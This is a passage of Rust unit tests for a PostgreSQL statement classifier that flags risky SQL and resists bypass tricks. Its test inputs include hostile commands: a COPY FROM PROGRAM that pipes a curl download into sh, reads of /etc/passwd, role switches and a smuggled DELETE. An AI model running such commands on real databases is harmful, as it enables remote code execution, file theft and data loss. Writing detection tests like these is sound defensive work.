//! Unit tests of the classifier: every class and flag, and the bypass attempts they must survive.

use std::sync::Arc;

use super::*;
use Flag::*;
use StatementClass::*;

/// The only statement of `sql`.
fn one(sql: &str) -> Statement {
    let c = classify(sql).unwrap_or_else(|e| panic!("{sql:?}: {e}"));
    assert_eq!(c.statements.len(), 1, "{sql:?}: {c:?}");
    c.statements.into_iter().next().expect("checked")
}

#[track_caller]
fn check(sql: &str, class: StatementClass, flags: &[Flag]) -> Statement {
    let s = one(sql);
    assert_eq!(
        (s.class, s.flags.as_slice()),
        (class, flags),
        "{sql:?}: {s:?}"
    );
    s
}

fn table(schema: Option<&str>, name: &str, access: Access) -> TableRef {
    TableRef {
        schema: schema.map(str::to_owned),
        name: name.to_owned(),
        access,
    }
}

fn refused(sql: &str) -> bool {
    matches!(classify(sql), Err(ClassifyError::Refused { .. }))
}

#[test]
fn every_class() {
    let cases: &[(&str, StatementClass, &str)] = &[
        ("SELECT * FROM t", Read, "SELECT"),
        ("VALUES (1), (2)", Read, "SELECT"),
        ("TABLE t", Read, "SELECT"),
        ("SELECT * FROM t FOR UPDATE", Read, "SELECT"),
        ("SHOW work_mem", Read, "SHOW"),
        ("DECLARE c CURSOR FOR SELECT 1", Read, "DECLARE CURSOR"),
        ("FETCH 10 FROM c", Read, "FETCH"),
        ("LOCK TABLE t IN ACCESS SHARE MODE", Read, "LOCK TABLE"),
        ("INSERT INTO t VALUES (1)", Write, "INSERT"),
        ("UPDATE t SET a = 1 WHERE b = 2", Write, "UPDATE"),
        ("DELETE FROM t WHERE id = 1", Write, "DELETE"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
            Write,
            "MERGE",
        ),
        ("COPY t FROM STDIN", Write, "COPY"),
        ("SELECT * INTO t2 FROM t", Write, "SELECT INTO"),
        (
            "REFRESH MATERIALIZED VIEW mv",
            Write,
            "REFRESH MATERIALIZED VIEW",
        ),
        ("NOTIFY ch, 'x'", Write, "NOTIFY"),
        ("LOCK TABLE t", Write, "LOCK TABLE"),
        ("CREATE TABLE t (a int)", Ddl, "CREATE TABLE"),
        ("ALTER TABLE t ADD COLUMN b int", Ddl, "ALTER TABLE"),
        ("CREATE INDEX ON t (a)", Ddl, "CREATE INDEX"),
        ("CREATE VIEW v AS SELECT 1", Ddl, "CREATE VIEW"),
        ("COMMENT ON TABLE t IS 'x'", Ddl, "COMMENT"),
        (
            "CREATE EXTENSION IF NOT EXISTS pgcrypto",
            Ddl,
            "CREATE EXTENSION",
        ),
        ("CREATE TABLE t2 AS SELECT * FROM t", Ddl, "CREATE TABLE AS"),
        ("CREATE DATABASE d", Ddl, "CREATE DATABASE"),
        ("ALTER SEQUENCE s RESTART", Ddl, "ALTER SEQUENCE"),
        ("CREATE TYPE mood AS ENUM ('a')", Ddl, "CREATE TYPE"),
        (
            "CREATE AGGREGATE a (int) (sfunc = f, stype = int)",
            Ddl,
            "CREATE AGGREGATE",
        ),
        ("GRANT SELECT ON t TO ci", Dcl, "GRANT"),
        ("REVOKE ALL ON t FROM ci", Dcl, "REVOKE"),
        ("GRANT admin TO ci", Dcl, "GRANT"),
        ("CREATE ROLE r", Dcl, "CREATE ROLE"),
        ("CREATE USER u", Dcl, "CREATE USER"),
        ("ALTER ROLE r NOSUPERUSER", Dcl, "ALTER ROLE"),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO ci",
            Dcl,
            "ALTER DEFAULT PRIVILEGES",
        ),
        (
            "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
            Dcl,
            "ALTER TABLE",
        ),
        ("ALTER FUNCTION f() OWNER TO x", Dcl, "ALTER FUNCTION"),
        ("CREATE POLICY p ON t USING (true)", Dcl, "CREATE POLICY"),
        ("ALTER ROLE r RENAME TO s", Dcl, "ALTER ROLE"),
        ("VACUUM t", Admin, "VACUUM"),
        ("ANALYZE t", Admin, "ANALYZE"),
        ("CLUSTER t USING i", Admin, "CLUSTER"),
        ("REINDEX TABLE t", Admin, "REINDEX"),
        ("CHECKPOINT", Admin, "CHECKPOINT"),
        ("LOAD 'auto_explain'", Admin, "LOAD"),
        ("ALTER SYSTEM SET work_mem = '1GB'", Admin, "ALTER SYSTEM"),
        (
            "CREATE TABLESPACE ts LOCATION '/x'",
            Admin,
            "CREATE TABLESPACE",
        ),
        ("BEGIN", Transaction, "BEGIN"),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            Transaction,
            "START TRANSACTION",
        ),
        ("COMMIT", Transaction, "COMMIT"),
        ("END", Transaction, "COMMIT"),
        ("ROLLBACK", Transaction, "ROLLBACK"),
        ("SAVEPOINT s", Transaction, "SAVEPOINT"),
        ("RELEASE SAVEPOINT s", Transaction, "RELEASE"),
        (
            "ROLLBACK TO SAVEPOINT s",
            Transaction,
            "ROLLBACK TO SAVEPOINT",
        ),
        (
            "PREPARE TRANSACTION 'x'",
            Transaction,
            "PREPARE TRANSACTION",
        ),
        ("COMMIT PREPARED 'x'", Transaction, "COMMIT PREPARED"),
        (
            "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ",
            Transaction,
            "SET TRANSACTION",
        ),
        (
            "SET CONSTRAINTS ALL DEFERRED",
            Transaction,
            "SET CONSTRAINTS",
        ),
        ("SET search_path = public", Other, "SET"),
        ("SET LOCAL statement_timeout = 0", Other, "SET"),
        ("RESET ALL", Other, "RESET"),
        ("DISCARD PLANS", Other, "DISCARD"),
        ("LISTEN ch", Other, "LISTEN"),
        ("UNLISTEN *", Other, "UNLISTEN"),
        ("CLOSE c", Other, "CLOSE"),
        ("EXECUTE p", Other, "EXECUTE"),
        ("DEALLOCATE p", Other, "DEALLOCATE"),
    ];
    for &(sql, class, command) in cases {
        let s = one(sql);
        assert_eq!((s.class, s.command), (class, command), "{sql:?}: {s:?}");
    }
    // Every class is covered above.
    for class in StatementClass::ALL {
        assert!(cases.iter().any(|c| c.1 == class), "no case for {class}");
    }
}

#[test]
fn every_flag() {
    check("DELETE FROM t", Write, &[DeleteWithoutWhere]);
    check("UPDATE t SET a = 1", Write, &[UpdateWithoutWhere]);
    check("DROP TABLE t", Ddl, &[Drop]);
    check("TRUNCATE t", Write, &[Truncate]);
    check(
        "WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d",
        Write,
        &[DataModifyingCte],
    );
    check("DO $$ BEGIN NULL; END $$", Write, &[ProceduralCode]);
    check(
        "EXPLAIN ANALYZE INSERT INTO t VALUES (1)",
        Write,
        &[ExplainAnalyzeWrite],
    );
    check("COPY t TO PROGRAM 'gzip > /tmp/x'", Admin, &[CopyProgram]);
    check("COPY t TO '/tmp/x'", Read, &[CopyFile]);
    check("SELECT pg_cancel_backend(1)", Read, &[DangerousFunction]);
    check("SET ROLE admin", Other, &[SetRole]);
}

#[test]
fn comments_and_casing_do_not_matter() {
    check("/* x */ dElEtE FROM t", Write, &[DeleteWithoutWhere]);
    check(
        "-- a comment\nDeLeTe\n/* nested /* comment */ */ FROM t -- trailing",
        Write,
        &[DeleteWithoutWhere],
    );
    check("dRoP   tAbLe \"T\"", Ddl, &[Drop]);
    check("sElEcT Pg_TeRmInAtE_bAcKeNd(1)", Read, &[DangerousFunction]);
}

#[test]
fn every_statement_of_a_string_is_classified() {
    let c = classify("SELECT 1; DROP TABLE t").expect("parses");
    assert_eq!(c.classes().collect::<Vec<_>>(), [Read, Ddl]);
    assert_eq!(c.flags().collect::<Vec<_>>(), [Drop]);
    assert_eq!(c.statements[1].command, "DROP TABLE");
    assert_eq!(c.statements[1].tables, [table(None, "t", Access::Write)]);

    let c = classify("BEGIN; UPDATE t SET a = 1; COMMIT;").expect("parses");
    assert_eq!(
        c.classes().collect::<Vec<_>>(),
        [Transaction, Write, Transaction]
    );
    assert_eq!(c.flags().collect::<Vec<_>>(), [UpdateWithoutWhere]);

    // A `;` inside a literal or comment does not split statements.
    let c = classify("SELECT ';' /* ; */ -- ;\n").expect("parses");
    assert_eq!(c.statements.len(), 1);
}

#[test]
fn empty_and_comment_only_strings_are_empty() {
    for sql in [
        "",
        "   ",
        ";",
        "-- only a comment",
        "/* c */",
        "/* a */ ; -- b\n;",
    ] {
        let c = classify(sql).unwrap_or_else(|e| panic!("{sql:?}: {e}"));
        assert!(c.is_empty(), "{sql:?}: {c:?}");
    }
}

#[test]
fn data_modifying_ctes() {
    let s = check(
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        Write,
        &[DeleteWithoutWhere, DataModifyingCte],
    );
    assert_eq!(s.tables, [table(None, "t", Access::Write)]);
    check(
        "INSERT INTO log WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u",
        Write,
        &[UpdateWithoutWhere, DataModifyingCte],
    );
    check(
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i",
        Write,
        &[DataModifyingCte],
    );
    // Nested below a subquery (PostgreSQL rejects it later; still flagged).
    check(
        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s",
        Write,
        &[DeleteWithoutWhere, DataModifyingCte],
    );
    // A plain CTE is only a read.
    check("WITH x AS (SELECT * FROM t) SELECT * FROM x", Read, &[]);
}

#[test]
fn functions_that_change_data_make_a_write() {
    // Large objects need no table privilege to create, and their owner may
    // write or delete them: a "read" must not do that.
    for sql in [
        "SELECT lo_from_bytea(0, 'data')",
        "SELECT pg_catalog.lo_create(0)",
        "SELECT lo_creat(-1)",
        "SELECT lo_put(16393, 0, 'x')",
        "SELECT lowrite(0, 'x')",
        "SELECT lo_truncate(0, 0)",
        "SELECT LO_TRUNCATE64(0, 0)",
        "SELECT lo_unlink(oid) FROM pg_largeobject_metadata",
        "SELECT setval('billing.invoices_id_seq', 1)",
        "SELECT pg_notify('ch', 'payload')",
        "SELECT pg_logical_emit_message(true, 'p', 'x')",
        "SELECT * FROM t WHERE (SELECT lo_unlink(1)) = 1",
        "DECLARE c CURSOR FOR SELECT lo_unlink(1)",
        "COPY (SELECT lo_unlink(1)) TO STDOUT",
        // Attribute notation calls the function too (found in review).
        "SELECT (424242::oid).lo_unlink",
        "SELECT x.lo_unlink FROM (SELECT 1::oid) AS x(lo)",
    ] {
        assert_eq!(one(sql).class, Write, "{sql:?}");
    }
    // EXPLAIN without ANALYZE runs nothing.
    check("EXPLAIN SELECT lo_unlink(1)", Read, &[]);
    check(
        "EXPLAIN ANALYZE SELECT lo_unlink(1)",
        Write,
        &[ExplainAnalyzeWrite],
    );
    // Reading large objects, and taking the next value of a sequence, stay reads.
    check("SELECT lo_get(1), nextval('s'), currval('s')", Read, &[]);
}

#[test]
fn setval_writes_the_sequence_it_names() {
    for (sql, schema, name) in [
        (
            "SELECT setval('billing.invoices_id_seq', 1)",
            Some("billing"),
            "invoices_id_seq",
        ),
        ("SELECT setval('Seq', 1)", None, "seq"),
        (
            "SELECT pg_catalog.setval(' \"Bill\"\"s\" . \"A.b\" ', 1, false)",
            Some("Bill\"s"),
            "A.b",
        ),
        (
            "SELECT setval('db.billing.s'::regclass, 1)",
            Some("billing"),
            "s",
        ),
    ] {
        assert_eq!(
            one(sql).tables,
            [table(schema, name, Access::Write)],
            "{sql:?}"
        );
    }
    // The sequence of a table's column: that table (found in review: a
    // fixture reset was denied as writing every table).
    for (sql, schema, name) in [
        (
            "SELECT setval(pg_get_serial_sequence('items', 'id'), 5)",
            None,
            "items",
        ),
        (
            "SELECT pg_catalog.setval(pg_catalog.pg_get_serial_sequence('billing.invoices', 'id'), 1, false)",
            Some("billing"),
            "invoices",
        ),
    ] {
        assert_eq!(
            one(sql).tables,
            [table(schema, name, Access::Write)],
            "{sql:?}"
        );
    }
    // One of another schema's function, or of a table that is no constant,
    // may be any sequence.
    for sql in [
        "SELECT setval(x.pg_get_serial_sequence('items', 'id'), 5)",
        "SELECT setval(pg_get_serial_sequence($1, 'id'), 5)",
    ] {
        assert_eq!(one(sql).tables, [TableRef::everywhere()], "{sql:?}");
    }
    // Not a name PostgreSQL would accept, or not a constant: any sequence
    // (found in review: `'billing' || '.inv_seq'` named none).
    for sql in [
        "SELECT setval('a..b', 1)",
        "SELECT setval('\"open', 1)",
        "SELECT setval('a.b.c.d', 1)",
        "SELECT setval('', 1)",
        "SELECT setval($1, 1)",
        "SELECT setval('billing' || '.inv_seq', 21)",
        "SELECT setval('billing.inv_seq' COLLATE \"C\", 20)",
    ] {
        let s = one(sql);
        assert_eq!(s.tables, [TableRef::everywhere()], "{sql:?}");
        assert_eq!(s.class, Write, "{sql:?}");
    }
}

#[test]
fn explain_runs_its_statement_only_with_analyze() {
    let s = check(
        "EXPLAIN ANALYZE DELETE FROM t",
        Write,
        &[DeleteWithoutWhere, ExplainAnalyzeWrite],
    );
    assert_eq!(s.command, "EXPLAIN ANALYZE");
    assert_eq!(s.tables, [table(None, "t", Access::Write)]);
    check(
        "EXPLAIN (ANALYZE) DELETE FROM t WHERE a = 1",
        Write,
        &[ExplainAnalyzeWrite],
    );
    check(
        "EXPLAIN (ANALYZE on, BUFFERS) UPDATE t SET a = 1 WHERE b = 1",
        Write,
        &[ExplainAnalyzeWrite],
    );
    check(
        "explain analyse verbose delete from t where a = 1",
        Write,
        &[ExplainAnalyzeWrite],
    );
    check("EXPLAIN ANALYZE SELECT * FROM t", Read, &[]);
    check(
        "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        Write,
        &[DeleteWithoutWhere, DataModifyingCte, ExplainAnalyzeWrite],
    );
    check(
        "EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1",
        Ddl,
        &[ExplainAnalyzeWrite],
    );

    // Without ANALYZE nothing runs: a read, no write flags, tables read.
    let s = check("EXPLAIN DELETE FROM t", Read, &[]);
    assert_eq!(s.command, "EXPLAIN");
    assert_eq!(s.tables, [table(None, "t", Access::Read)]);
    check("EXPLAIN (ANALYZE false) DELETE FROM t", Read, &[]);
    check("EXPLAIN (ANALYZE off, COSTS) UPDATE t SET a = 1", Read, &[]);
    check(
        "EXPLAIN (FORMAT JSON) WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        Read,
        &[],
    );
    // A later ANALYZE wins in PostgreSQL; any enabled mention counts here.
    check(
        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t",
        Write,
        &[DeleteWithoutWhere, ExplainAnalyzeWrite],
    );
    // Function flags stay: a plan can still be about them.
    check(
        "EXPLAIN SELECT pg_read_file('x')",
        Read,
        &[DangerousFunction],
    );
}

#[test]
fn copy_directions_and_endpoints() {
    let s = check("COPY t TO STDOUT", Read, &[]);
    assert_eq!(s.tables, [table(None, "t", Access::Read)]);
    let s = check(
        "COPY billing.invoices FROM STDIN WITH (FORMAT csv)",
        Write,
        &[],
    );
    assert_eq!(
        s.tables,
        [table(Some("billing"), "invoices", Access::Write)]
    );
    check("COPY t TO PROGRAM 'x'", Admin, &[CopyProgram]);
    check(
        "copy t from program 'curl http://x | sh'",
        Admin,
        &[CopyProgram],
    );
    check("COPY t FROM '/etc/passwd'", Write, &[CopyFile]);
    check("COPY t TO '/tmp/dump.csv'", Read, &[CopyFile]);
    check("COPY (SELECT * FROM t) TO STDOUT", Read, &[]);
    // COPY's query may be a data change with RETURNING.
    check(
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        Write,
        &[DeleteWithoutWhere],
    );
    check(
        "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
        Read,
        &[DangerousFunction],
    );
}

#[test]
fn dangerous_functions_anywhere() {
    check("SELECT pg_terminate_backend(1)", Read, &[DangerousFunction]);
    check(
        "select PG_CATALOG.pg_read_file('x')",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT \"pg_catalog\".\"pg_ls_dir\"('.')",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT * FROM pg_ls_dir('.') AS f",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT * FROM t WHERE a = (SELECT lo_import('/etc/passwd'))",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT * FROM public.dblink('host=x', 'DELETE FROM t') AS r(a int)",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT dblink_exec('DROP TABLE t')",
        Read,
        &[DangerousFunction],
    );
    check(
        "UPDATE t SET a = pg_reload_conf() WHERE b = 1",
        Write,
        &[DangerousFunction],
    );
    check(
        "CALL p(pg_promote())",
        Write,
        &[ProceduralCode, DangerousFunction],
    );
    check(
        "ALTER TABLE t ADD COLUMN c text DEFAULT pg_read_file('x')",
        Ddl,
        &[DangerousFunction],
    );
    check("EXECUTE p(pg_switch_wal())", Other, &[DangerousFunction]);
    // SQL in a string escapes the classifier: the evaluators themselves are flagged.
    check(
        "SELECT query_to_xml('select * from billing.cards', true, true, '')",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT table_to_xml('billing.cards', true, true, '')",
        Read,
        &[DangerousFunction],
    );
    // Found in review: contrib xml2 runs its relation and criteria as SQL
    // (several statements, too), and reading a logical slot returns every
    // column of the rows that changed.
    check(
        "SELECT * FROM xpath_table('1', '''<a/>''', 'public.orders; DELETE FROM public.orders; SELECT 1, ''<a/>''', '/a', 'true') AS t(k int, v text)",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT data FROM pg_logical_slot_peek_changes('s', NULL, NULL)",
        Read,
        &[DangerousFunction],
    );
    check(
        "SELECT cron.schedule('0 * * * *', 'DELETE FROM orders')",
        Read,
        &[DangerousFunction],
    );
    // Ordinary functions are not.
    check(
        "SELECT now(), count(*), lower(name), nextval('s') FROM t GROUP BY 2",
        Read,
        &[],
    );
    for f in DANGEROUS_FUNCTIONS {
        assert!(is_dangerous_function(&f.to_ascii_uppercase()), "{f}");
        check(&format!("SELECT {f}()"), Read, &[DangerousFunction]);
    }
}

#[test]
fn role_changes() {
    let s = check("SET ROLE admin", Other, &[SetRole]);
    assert_eq!(s.command, "SET ROLE");
    check("set session authorization x", Other, &[SetRole]);
    check("SET SESSION AUTHORIZATION DEFAULT", Other, &[SetRole]);
    check("RESET ROLE", Other, &[SetRole]);
    check("RESET SESSION AUTHORIZATION", Other, &[SetRole]);
    check("SET LOCAL ROLE admin", Other, &[SetRole]);
    check("SET \"ROLE\" = 'admin'", Other, &[SetRole]);
    check("SET role TO DEFAULT", Other, &[SetRole]);
    check("DISCARD ALL", Other, &[SetRole]);
    check(
        "select set_config('role','x',false)",
        Read,
        &[DangerousFunction, SetRole],
    );
    check(
        "SELECT pg_catalog.set_config('Session_Authorization', 'x', true)",
        Read,
        &[DangerousFunction, SetRole],
    );
    check(
        "SELECT set_config(new_value => 'x', setting_name => 'role', is_local => false)",
        Read,
        &[DangerousFunction, SetRole],
    );
    check(
        "SELECT set_config('role'::text, 'x', false)",
        Read,
        &[DangerousFunction, SetRole],
    );
    // A tenant id for row-level security is not a role change.
    check("SELECT set_config('app.tenant_id', $1, false)", Read, &[]);
    // Role defaults and function SET clauses switch later sessions or calls.
    check("ALTER ROLE ci SET role = admin", Dcl, &[SetRole]);
    check(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'select 1'",
        Ddl,
        &[ProceduralCode, SetRole],
    );
    check("SET search_path = billing", Other, &[]);
    check("RESET ALL", Other, &[]);
}

#[test]
fn search_path_changes_are_marked() {
    for sql in [
        "SET search_path = billing",
        "SET SCHEMA 'billing'",
        "RESET search_path",
        "SET U&\"search\\005fpath\" = billing",
        "SELECT set_config(E'search\\137path', 'billing', false)",
        "ALTER ROLE ci SET search_path = billing",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = billing AS 'select 1'",
        "UPDATE pg_settings SET setting = 'billing' WHERE name = 'x'",
        "UPDATE pg_catalog.pg_settings SET setting = 'billing'",
        "EXPLAIN ANALYZE UPDATE pg_settings SET setting = 'billing' WHERE name = 'x'",
        "PREPARE p AS SELECT set_config('search_path', 'billing', false)",
    ] {
        assert!(one(sql).sets_search_path, "{sql:?}");
    }
    for sql in [
        "SET work_mem = '1MB'",
        "SHOW search_path",
        "SELECT current_setting('search_path')",
        "SELECT set_config('app.x', 'search_path', false)",
        "SELECT * FROM pg_settings WHERE name = 'search_path'",
        "UPDATE public.pg_settings SET setting = 'x' WHERE name = 'y'",
        "UPDATE t SET a = 1 WHERE b = 2",
    ] {
        assert!(!one(sql).sets_search_path, "{sql:?}");
    }
}

#[test]
fn procedural_code() {
    check(
        "DO $$ BEGIN DELETE FROM t; END $$",
        Write,
        &[ProceduralCode],
    );
    check(
        "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'",
        Write,
        &[ProceduralCode],
    );
    check("CALL p(1)", Write, &[ProceduralCode]);
    let s = check(
        "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$",
        Ddl,
        &[ProceduralCode],
    );
    assert_eq!(s.command, "CREATE FUNCTION");
    let s = check(
        "CREATE PROCEDURE p() LANGUAGE sql AS 'select 1'",
        Ddl,
        &[ProceduralCode],
    );
    assert_eq!(s.command, "CREATE PROCEDURE");
    // A SQL-standard body is parsed, so what it would do is visible too.
    check(
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        Ddl,
        &[DeleteWithoutWhere, ProceduralCode],
    );
}

#[test]
fn prepared_statements() {
    let s = check("PREPARE p AS DELETE FROM t", Write, &[DeleteWithoutWhere]);
    assert_eq!(s.command, "PREPARE");
    assert_eq!(s.prepared, Some(Prepared::Define("p".to_owned())));
    assert_eq!(s.prepared_name(), Some("p"));
    assert_eq!(s.tables, [table(None, "t", Access::Write)]);
    check(
        "PREPARE q (int) AS SELECT * FROM t WHERE id = $1",
        Read,
        &[],
    );

    let s = check("EXECUTE p (1)", Other, &[]);
    assert_eq!(s.prepared, Some(Prepared::Execute("p".to_owned())));
    let s = check("EXPLAIN ANALYZE EXECUTE p", Other, &[]);
    assert_eq!(s.prepared, Some(Prepared::Execute("p".to_owned())));
    let s = check("CREATE TABLE t2 AS EXECUTE p", Ddl, &[]);
    assert_eq!(s.prepared_name(), Some("p"));
    // EXPLAIN without ANALYZE runs nothing.
    assert_eq!(one("EXPLAIN EXECUTE p").prepared, None);

    assert_eq!(
        one("DEALLOCATE PREPARE p").prepared,
        Some(Prepared::Deallocate(Some("p".to_owned())))
    );
    assert_eq!(
        one("DEALLOCATE ALL").prepared,
        Some(Prepared::Deallocate(None))
    );
    assert_eq!(one("SELECT 1").prepared_name(), None);
}

#[test]
fn where_clauses() {
    check("DELETE FROM t WHERE id = 1", Write, &[]);
    check("DELETE FROM t WHERE CURRENT OF c", Write, &[]);
    check("DELETE FROM t WHERE id = $1 AND $2", Write, &[]);
    check(
        "DELETE FROM t WHERE id IS NOT NULL OR id IS NULL",
        Write,
        &[],
    );
    // A condition that names no column is the same for every row: it takes
    // all of them (or none), like no WHERE at all, and so does an OR with such an arm.
    for sql in [
        "DELETE FROM t WHERE true",
        "delete from t where 1 = 1",
        "DELETE FROM t WHERE 'a' = 'a'",
        "DELETE FROM t WHERE $1",
        "DELETE FROM t WHERE NOT false",
        "DELETE FROM t WHERE current_user = 'ci'",
        "DELETE FROM t WHERE id = 5 OR 1 = 1",
        "DELETE FROM t WHERE (id = 5 OR true) AND 2 > 1",
        "DELETE FROM t WHERE id = 'a\\' OR true",
        "DELETE FROM t WHERE timestamp with time zone 'now' < now()",
        "DELETE FROM t WHERE EXISTS (SELECT 1)",
    ] {
        check(sql, Write, &[DeleteWithoutWhere]);
    }
    check(
        "UPDATE t SET a = 1 WHERE a = 1 OR true",
        Write,
        &[UpdateWithoutWhere],
    );
    check(
        "WITH d AS (DELETE FROM t WHERE 1 = 1 RETURNING *) SELECT * FROM d",
        Write,
        &[DeleteWithoutWhere, DataModifyingCte],
    );
    check("DELETE FROM t USING u WHERE t.id = u.id", Write, &[]);
    check("DELETE FROM t USING u", Write, &[DeleteWithoutWhere]);
    // Found in review: a condition on other relations' columns only takes
    // every row of the target, and so may an unqualified one when others
    // are joined; a keyword read as a column let one pass the fast path.
    for (sql, flag) in [
        (
            "DELETE FROM customers USING (VALUES (1)) AS v(k) WHERE v.k = 1",
            DeleteWithoutWhere,
        ),
        ("DELETE FROM t USING u WHERE u.a = 1", DeleteWithoutWhere),
        ("DELETE FROM t USING u WHERE a = 1", DeleteWithoutWhere),
        (
            "DELETE FROM t x USING u WHERE t.id = u.id",
            DeleteWithoutWhere,
        ),
        (
            "UPDATE items SET qty = -1 FROM (VALUES (1)) AS v(k) WHERE v.k = 1",
            UpdateWithoutWhere,
        ),
        (
            "DELETE FROM items WHERE collation for ('x'::text) IS NOT NULL",
            DeleteWithoutWhere,
        ),
        (
            "UPDATE items SET qty = 0 WHERE collation for ('x'::text) IS NOT NULL",
            UpdateWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE a = 1)",
            DeleteWithoutWhere,
        ),
        // Found in review: another schema's table of the same name.
        (
            "DELETE FROM public.t USING other.t WHERE other.t.id = 1",
            DeleteWithoutWhere,
        ),
        (
            "UPDATE public.t SET a = 1 FROM other.t WHERE other.t.id = 1",
            UpdateWithoutWhere,
        ),
        (
            "DELETE FROM t USING other.t WHERE other.t.id = 1",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM public.t x USING u WHERE public.t.id = u.id",
            DeleteWithoutWhere,
        ),
        // Found in review: a subquery's own relation named like the target.
        (
            "DELETE FROM rv WHERE EXISTS (SELECT 1 FROM customers rv WHERE rv.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM t WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "UPDATE t SET a = 1 WHERE 1 IN (SELECT 1 FROM (SELECT 1) t WHERE t.x = 1)",
            UpdateWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (WITH t AS (SELECT 1 AS id) SELECT 1 FROM t WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        // Found in review: a FROM item without an alias that PostgreSQL
        // still names, after its function (or `xmltable`, `json_table`).
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM t() WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM other.t(1) WITH ORDINALITY WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "UPDATE t SET a = 1 WHERE EXISTS (SELECT 1 FROM ROWS FROM (t(), u()) WHERE t.id = 1)",
            UpdateWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM t() AS (id int) WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM CAST(NULL AS t) WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM xmltable WHERE EXISTS (SELECT 1 FROM XMLTABLE('/r' PASSING '<r/>' COLUMNS id int) WHERE xmltable.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM json_table WHERE EXISTS (SELECT 1 FROM JSON_TABLE('[1]', '$[*]' COLUMNS (id int PATH '$')) WHERE json_table.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM unnamed_subquery WHERE EXISTS (SELECT 1 FROM (SELECT 1 AS id) WHERE unnamed_subquery.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u, LATERAL CAST(u.t AS pair) WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM t WHERE EXISTS (SELECT 1 FROM current_date WHERE t.id = 1)",
            DeleteWithoutWhere,
        ),
        (
            "DELETE FROM public.t USING other.t() WHERE t.id = 1",
            DeleteWithoutWhere,
        ),
        (
            "UPDATE t SET a = 1 FROM u JOIN t() ON true WHERE t.id = 1",
            UpdateWithoutWhere,
        ),
        (
            "MERGE INTO t USING t() ON t.id = 1 WHEN MATCHED THEN DELETE",
            DeleteWithoutWhere,
        ),
        (
            "MERGE INTO items t USING (SELECT 1 AS k) s ON s.k = 1 WHEN MATCHED THEN DELETE",
            DeleteWithoutWhere,
        ),
        (
            "MERGE INTO items t USING src s ON id = s.id WHEN MATCHED THEN DELETE",
            DeleteWithoutWhere,
        ),
    ] {
        check(sql, Write, &[flag]);
    }
    for sql in [
        "DELETE FROM t x USING u WHERE x.id = u.id",
        "DELETE FROM s.t USING u WHERE s.t.id = u.id",
        "DELETE FROM public.t USING other.t WHERE public.t.id = other.t.id",
        "UPDATE t SET a = 1 FROM u WHERE t.id = u.id AND u.b",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)",
        "DELETE FROM t WHERE id IN (SELECT tid FROM u)",
        "MERGE INTO items t USING src s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "DELETE FROM t WHERE t.id = 1",
        "DELETE FROM t WHERE id IN (SELECT f.id FROM f() AS f)",
        "DELETE FROM t WHERE id IN (SELECT id FROM generate_series(1, 3) id)",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM f() WHERE f.id = t.id)",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM t() AS f WHERE f.id = t.id)",
        "DELETE FROM t WHERE EXISTS (SELECT 1 FROM CAST(NULL AS u) WHERE u.id = t.id)",
        "DELETE FROM t USING f() WHERE t.id = f.id",
        "DELETE FROM t x USING t() WHERE x.id = t.id",
        "MERGE INTO t USING f() s ON t.id = s.id WHEN MATCHED THEN DELETE",
    ] {
        check(sql, Write, &[]);
    }
    check("UPDATE t SET a = 1", Write, &[UpdateWithoutWhere]);
